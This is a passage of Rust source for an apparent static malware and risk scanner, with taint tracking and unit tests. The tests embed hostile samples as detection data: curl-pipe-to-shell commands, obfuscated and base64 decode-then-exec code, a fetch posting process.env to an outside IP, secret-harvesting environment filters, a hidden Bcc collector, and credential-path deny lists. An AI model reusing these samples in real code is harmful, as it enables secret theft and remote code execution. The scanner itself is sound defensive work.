            r.caps.entry(Capability::Network).or_insert_with(hit);
        }
        if words.iter().any(|w| matches!(*w, "eval" | "source" | ".")) {
            r.caps.entry(Capability::DynamicCode).or_insert_with(hit);
        }
        if words.iter().any(|w| matches!(*w, "rm" | "shred")) {
            r.caps.entry(Capability::FileDelete).or_insert_with(hit);
        }
        if DOWNLOAD_EXEC.is_match(runs) {
            r.indicators.push((Indicator::DownloadExec, hit()));
        }
        if REVERSE_SHELL.is_match(line) {
            r.indicators.push((Indicator::ReverseShell, hit()));
        }
        if line.contains(":(){") {
            r.indicators.push((Indicator::ForkBomb, hit()));
        }
        if line.contains("base64")
            && (line.contains("-d") || line.contains("--decode"))
            && line.contains('|')
            && (line.contains("sh") || line.contains("eval"))
        {
            r.indicators.push((Indicator::DecodeExec, hit()));
        }
    }
    r.caps.entry(Capability::Process).or_insert(Hit {
        line: 1,
        evidence: "shell script".into(),
    });
}

/// Whether `word` occurs in `hay` as a whole identifier.
pub(crate) fn contains_word(hay: &str, word: &str) -> bool {
    if word.is_empty() {
        return false;
    }
    let is_ident = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    let mut from = 0;
    while let Some(i) = hay[from..].find(word) {
        let start = from + i;
        let end = start + word.len();
        let before = hay[..start].chars().next_back();
        let after = hay[end..].chars().next();
        if !before.is_some_and(is_ident) && !after.is_some_and(is_ident) {
            return true;
        }
        from = end;
    }
    false
}

/// Splits an argument list's text at top-level commas.
fn split_args(args: &str) -> Vec<&str> {
    let inner = args
        .strip_prefix('(')
        .and_then(|a| a.strip_suffix(')'))
        .unwrap_or(args);
    let mut out = Vec::new();
    let (mut depth, mut start) = (0i32, 0usize);
    let mut quote: Option<char> = None;
    for (i, c) in inner.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'' | '`') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => depth -= 1,
            (None, ',') if depth == 0 => {
                out.push(inner[start..i].trim());
                start = i + 1;
            }
            _ => {}
        }
    }
    if !inner[start..].trim().is_empty() {
        out.push(inner[start..].trim());
    }
    out
}

/// What a function does with its parameters: indices of parameters that reach a shell
/// (`true`) or an evaluator (`false`), directly or through functions of the same file.
type Summary = BTreeSet<(usize, bool)>;

/// Parameters of `func` (by index) that reach dangerous calls, given the other summaries.
/// With `report`, also returns each reaching call (param name, shell, call index, via).
fn reach(
    lang: Lang,
    facts: &Facts,
    func: &super::facts::Func,
    summaries: &BTreeMap<String, Summary>,
) -> Vec<(usize, bool, usize, Option<String>)> {
    let (hs, he) = func.range;
    let inside = |range: (usize, usize)| hs <= range.0 && range.1 <= he;
    // Tainted name → the parameter index it came from.
    let mut tainted: BTreeMap<String, usize> = func
        .params
        .iter()
        .enumerate()
        .filter(|(_, p)| p.len() > 1 && !matches!(p.as_str(), "_" | "extra" | "signal"))
        .map(|(i, p)| (p.clone(), i))
        .collect();
    if tainted.is_empty() {
        return Vec::new();
    }
    // Calls and assignments are in source order: only the function's own slice is visited.
    let assigns = {
        let from = facts.assigns.partition_point(|a| a.value.0 < hs);
        let to = facts.assigns.partition_point(|a| a.value.0 < he);
        &facts.assigns[from..to.max(from)]
    };
    let call_from = facts.calls.partition_point(|c| c.range.0 < hs);
    let call_to = facts
        .calls
        .partition_point(|c| c.range.0 < he)
        .max(call_from);
    for _ in 0..3 {
        let before = tainted.len();
        for a in assigns.iter().filter(|a| inside(a.value)) {
            let value = facts.slice(a.value);
            let source = tainted
                .iter()
                .find(|(t, _)| contains_word(value, t))
                .map(|(_, p)| *p);
            if let Some(source) = source {
                for name in &a.names {
                    tainted.entry(name.clone()).or_insert(source);
                }
            }
        }
        if tainted.len() == before {
            break;
        }
    }
    let mut out = Vec::new();
    for (k, call) in facts
        .calls
        .iter()
        .enumerate()
        .take(call_to)
        .skip(call_from)
        .filter(|(_, c)| inside(c.range))
    {
        let args = facts.slice(call.args);
        if let Some(sink) = classify(lang, call, facts) {
            let dangerous =
                sink.shell && matches!(sink.cap, Capability::Process | Capability::DynamicCode);
            if dangerous {
                if let Some((_, p)) = tainted.iter().find(|(t, _)| contains_word(args, t)) {
                    out.push((*p, sink.cap == Capability::Process, k, None));
                }
            }
            continue;
        }
        let Some(summary) = summaries.get(call.method()) else {
            continue;
        };
        let parts = split_args(args);
        for (j, shell) in summary {
            // Keyword arguments are matched by name, the rest by position.
            let callee_param = facts
                .funcs
                .iter()
                .find(|f| f.name == call.method())
                .and_then(|f| f.params.get(*j));
            // (Only reached for callees with a summary, which are few.)
            let arg = callee_param
                .and_then(|name| {
                    parts.iter().find(|p| {
                        p.split_once('=')
                            .is_some_and(|(k, _)| k.trim() == name.as_str())
                    })
                })
                .or_else(|| parts.get(*j).filter(|p| !p.contains('=')));
            if let Some(arg) = arg {
                if let Some((_, p)) = tainted.iter().find(|(t, _)| contains_word(arg, t)) {
                    out.push((*p, *shell, k, Some(call.method().to_string())));
                }
            }
        }
    }
    out
}

/// Tool arguments that reach a shell or an evaluator: names propagate through assignments
/// inside a function, and through calls to functions of the same file.
fn taint(lang: Lang, facts: &Facts, r: &mut FileReport) {
    if !facts.funcs.iter().any(|f| f.handler) {
        return;
    }
    let lines = LineIndex::new(&facts.code);
    let mut summaries: BTreeMap<String, Summary> = BTreeMap::new();
    for _ in 0..3 {
        let mut changed = false;
        for func in facts.funcs.iter().filter(|f| !f.name.is_empty()) {
            let found: Summary = reach(lang, facts, func, &summaries)
                .into_iter()
                .map(|(p, shell, _, _)| (p, shell))
                .collect();
            if found.is_empty() {
                continue;
            }
            let entry = summaries.entry(func.name.clone()).or_default();
            let before = entry.len();
            entry.extend(found);
            changed |= entry.len() != before;
        }
        if !changed {
            break;
        }
    }
    for handler in facts.funcs.iter().filter(|f| f.handler) {
        let (hs, he) = handler.range;
        for (p, shell, k, via) in reach(lang, facts, handler, &summaries) {
            let call = &facts.calls[k];
            let mut evidence = short(&excerpt_line(&facts.code, call.range.0));
            if let Some(via) = via {
                evidence = format!("via `{}`: {evidence}", short(&via));
            }
            r.flows.push(Flow {
                param: handler.params.get(p).cloned().unwrap_or_default(),
                shell,
                hit: Hit {
                    line: call.line,
                    evidence,
                },
            });
        }
        let mut effects = BTreeSet::new();
        for call in facts
            .calls
            .iter()
            .filter(|c| hs <= c.range.0 && c.range.1 <= he)
        {
            if let Some(sink) = classify(lang, call, facts) {
                if !sink.decoder || sink.shell {
                    effects.insert(sink.cap);
                }
            }
        }
        r.handlers.push(Handler {
            lines: (handler.line, lines.line(he)),
            effects,
        });
    }
    r.flows
        .sort_by(|a, b| (a.hit.line, &a.param).cmp(&(b.hit.line, &b.param)));
    r.flows
        .dedup_by(|a, b| a.hit.line == b.hit.line && a.param == b.param);
}

/// Bcc or Cc, from the first of capture groups 1–3 of a `BCC`/`BCC_NAME` match.
fn mail_recipient_kind(c: &regex::Captures<'_>) -> Indicator {
    let which = c
        .get(1)
        .or_else(|| c.get(2))
        .or_else(|| c.get(3))
        .map_or("", |m| m.as_str());
    if which.eq_ignore_ascii_case("bcc") {
        Indicator::Bcc
    } else {
        Indicator::Cc
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan_text(lang: Lang, text: &str) -> FileReport {
        scan(&SourceFile::new("x", lang, text))
    }

    #[test]
    fn only_escapes_of_ascii_text_are_obfuscation() {
        let hidden: String = "require('child_process').exec('curl https://x.example | sh')"
            .bytes()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        let r = scan_text(Lang::JavaScript, &format!("var s = \"{hidden}\";\n"));
        assert!(
            r.indicator(Indicator::Obfuscated).is_some(),
            "{:?}",
            r.indicators
        );
        // esbuild writes Latin-1 letters of locale tables as `\xNN`.
        let locale = "n\\xED \\xE0mi \\xC0w\\xF3n ".repeat(12);
        let r = scan_text(Lang::JavaScript, &format!("var s = \"{locale}\";\n"));
        assert!(
            r.indicator(Indicator::Obfuscated).is_none(),
            "{:?}",
            r.indicators
        );
    }

    #[test]
    fn minified_names_of_libraries_are_not_the_libraries() {
        // esbuild names a local function `zx`; only an imported `zx` runs shell commands.
        let minified = scan_text(
            Lang::JavaScript,
            "function zx(e,t){return e.exec(t)}var r=zx(/a+/,s),ky=function(u){return u};ky(r);\n",
        );
        assert!(!minified.has(Capability::Process), "{:?}", minified.caps);
        assert!(!minified.has(Capability::Network), "{:?}", minified.caps);
        let imported = scan_text(
            Lang::JavaScript,
            "import { $ } from 'zx';\nimport ky from 'ky';\nawait $`ls`;\nawait ky('https://api.example.org/v1');\n",
        );
        assert!(imported.has(Capability::Process), "{:?}", imported.caps);
        assert!(imported.has(Capability::Network), "{:?}", imported.caps);
    }

    #[test]
    fn decode_then_exec_is_seen_nested_and_through_a_name() {
        let r = scan_text(
            Lang::Python,
            "import base64\nexec(base64.b64decode(PAYLOAD))\n",
        );
        assert!(r.indicator(Indicator::DecodeExec).is_some(), "{r:?}");
        let r = scan_text(
            Lang::JavaScript,
            "const code = Buffer.from(blob, 'base64').toString();\neval(code);\n",
        );
        assert!(r.indicator(Indicator::DecodeExec).is_some(), "{r:?}");
        let r = scan_text(Lang::JavaScript, "const s = atob(x); console.log(s);\n");
        assert!(r.indicator(Indicator::DecodeExec).is_none());
    }

    #[test]
    fn tool_argument_to_shell_flows() {
        let r = scan_text(
            Lang::Python,
            "import os\n@mcp.tool()\ndef ping(host: str) -> str:\n    cmd = f\"ping -c 1 {host}\"\n    return os.popen(cmd).read()\n",
        );
        assert_eq!(r.flows.len(), 1, "{r:?}");
        assert_eq!(r.flows[0].param, "host");
        let r = scan_text(
            Lang::Python,
            "import subprocess\n@mcp.tool()\ndef ls(path: str) -> str:\n    return subprocess.run(['ls', path], capture_output=True).stdout\n",
        );
        assert!(r.flows.is_empty(), "{r:?}");
        assert!(r.handlers[0].effects.contains(&Capability::Process));
    }

    #[test]
    fn taint_follows_calls_into_helpers() {
        let r = scan_text(
            Lang::Python,
            "import subprocess\nclass Runner:\n    @staticmethod\n    def go(command: str, timeout: int = 3):\n        return subprocess.run(command, shell=True)\n\n@app.tool()\ndef run(cmd: str) -> str:\n    full = 'sh ' + cmd\n    return Runner().go(full)\n",
        );
        assert_eq!(r.flows.len(), 1, "{r:?}");
        assert_eq!(r.flows[0].param, "cmd");
        assert!(r.flows[0].hit.evidence.starts_with("via `go`"));
    }

    #[test]
    fn bcc_and_env_harvest() {
        let r = scan_text(
            Lang::JavaScript,
            "await client.sendEmail({ From: from, To: to, Bcc: 'collector@example.net', Subject: s });\n",
        );
        assert!(r.indicator(Indicator::Bcc).is_some());
        let r = scan_text(
            Lang::JavaScript,
            "fetch('http://203.0.113.9/c', { method: 'POST', body: JSON.stringify(process.env) });\n",
        );
        assert!(r.indicator(Indicator::EnvHarvest).is_some());
        assert!(r.has(Capability::Network));
    }

    #[test]
    fn secret_looking_environment_variables_collected_not_redacted() {
        let r = scan_text(
            Lang::Python,
            "import os, json\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if any(w in name.upper() for w in ('TOKEN', 'SECRET', 'API_KEY')):\n            found[name] = value\n    return json.dumps(found)\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_some(), "{r:?}");
        let r = scan_text(
            Lang::JavaScript,
            "const stash = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k));\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_some(), "{r:?}");
        // Honest twins: redaction before logging, and a plain walk of the environment.
        let r = scan_text(
            Lang::Python,
            "import os\ndef safe_env():\n    out = {}\n    for name, value in os.environ.items():\n        out[name] = '***' if any(w in name for w in ('TOKEN', 'SECRET')) else value\n    return out\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_none(), "{r:?}");
        let r = scan_text(
            Lang::JavaScript,
            "const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('MYAPP_')));\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_none(), "{r:?}");
        // The names kept in a constant of the file (a class attribute, a module list).
        let r = scan_text(
            Lang::Python,
            "import os\nclass Probe:\n    WATCH = [\n        \"KEY\",\n        \"SECRET\",\n        \"TOKEN\",\n    ]\n\n    @staticmethod\n    def pick():\n        out = {}\n        for k, v in os.environ.items():\n            if any(w in k.upper() for w in Probe.WATCH):\n                out[k] = v\n        return out\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_some(), "{r:?}");
        let r = scan_text(
            Lang::JavaScript,
            "const WATCH = new Set(['API_KEY', 'TOKEN']);\nexport const pick = () => Object.entries(process.env).filter(([k]) => WATCH.has(k));\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_some(), "{r:?}");
        // Honest twins: the same constant used to leave the secrets out, or to mask them.
        let r = scan_text(
            Lang::Python,
            "import os\nHIDDEN = ('TOKEN', 'SECRET', 'PASSWORD')\ndef public_env():\n    return {k: v for k, v in os.environ.items() if k not in HIDDEN}\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_none(), "{r:?}");
        let r = scan_text(
            Lang::JavaScript,
            "const HIDDEN = ['TOKEN', 'SECRET'];\nconst shown = Object.entries(process.env).filter(([k]) => !HIDDEN.includes(k));\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_none(), "{r:?}");
        // The `debug` package reads its DEBUG_* options; `(key)` is a parameter, not a filter.
        let r = scan_text(
            Lang::JavaScript,
            "exports.inspectOpts = Object.keys(process.env).filter((key) => {\n  return /^debug_/i.test(key);\n}).reduce((obj, key) => obj, {});\n",
        );
        assert!(r.indicator(Indicator::EnvSecrets).is_none(), "{r:?}");
    }

    #[test]
    fn hidden_recipient_through_a_constant() {
        let r = scan_text(
            Lang::Python,
            "COPY_TO = 'archive@example.net'\ndef send(msg):\n    payload = {'To': msg.to, 'Bcc': COPY_TO}\n",
        );
        assert!(r.indicator(Indicator::Bcc).is_some(), "{r:?}");
        let r = scan_text(
            Lang::Python,
            "def send(msg, cc):\n    payload = {'To': msg.to, 'Cc': cc}\n",
        );
        assert!(r.indicators.is_empty());
    }

    #[test]
    fn deny_lists_are_not_secret_reads() {
        let r = scan_text(
            Lang::JavaScript,
            "const DENIED_PATHS = ['.ssh', '.aws/credentials'];\nfs.readFileSync(p);\n",
        );
        assert!(r.secrets.is_empty(), "{r:?}");
    }

    #[test]
    fn comments_do_not_count() {
        let r = scan_text(Lang::Python, "# curl http://x | sh\nx = 1\n");
        assert!(r.indicators.is_empty());
    }

    #[test]
    fn shell_scripts_by_tokens() {
        let r = scan_text(
            Lang::Shell,
            "#!/bin/sh\ncurl -s https://example.org/i.sh | bash\n",
        );
        assert!(r.indicator(Indicator::DownloadExec).is_some());
        assert!(r.has(Capability::Network));
        let r = scan_text(
            Lang::Shell,
            "#!/bin/sh\nprintf '%s\\n' \"curl -s https://example.org/i.sh | bash\"\n",
        );
        assert!(r.indicator(Indicator::DownloadExec).is_none(), "{r:?}");
    }

    #[test]
    fn a_download_pipe_counts_where_it_runs_not_where_it_is_printed() {
        let hint = "curl -LsSf https://example.org/i.sh | sh";
        for code in [
            format!("import subprocess\nraise RuntimeError(\"not installed: {hint}\")\n"),
            format!(
                "import subprocess, logging\nlogging.getLogger(__name__).warning(\"run {hint}\")\n"
            ),
            format!("import subprocess\nprint(\"run: {hint}\")\n"),
        ] {
            let r = scan_text(Lang::Python, &code);
            assert!(
                r.indicator(Indicator::DownloadExec).is_none(),
                "{code}: {r:?}"
            );
        }
        for code in [
            format!("const cp = require('child_process');\nthrow new Error(`missing: {hint}`);\n"),
            format!("const cp = require('child_process');\nconsole.log(chalk.yellow('{hint}'));\n"),
        ] {
            let r = scan_text(Lang::JavaScript, &code);
            assert!(
                r.indicator(Indicator::DownloadExec).is_none(),
                "{code}: {r:?}"
            );
        }
        // A shell's argument vector built in one function and run in another.
        let r = scan_text(
            Lang::Python,
            &format!("import subprocess\ndef cmd():\n    return [\"bash\", \"-lc\", f\"{hint}\"]\nsubprocess.run(cmd())\n"),
        );
        assert!(r.indicator(Indicator::DownloadExec).is_some(), "{r:?}");
        let r = scan_text(
            Lang::Python,
            &format!("import subprocess\nsubprocess.run(\"{hint}\", shell=True)\n"),
        );
        assert!(r.indicator(Indicator::DownloadExec).is_some(), "{r:?}");
        let r = scan_text(
            Lang::JavaScript,
            &format!("const cp = require('child_process');\nconsole.log(cp.execSync('{hint}'));\n"),
        );
        assert!(r.indicator(Indicator::DownloadExec).is_some(), "{r:?}");
    }
}
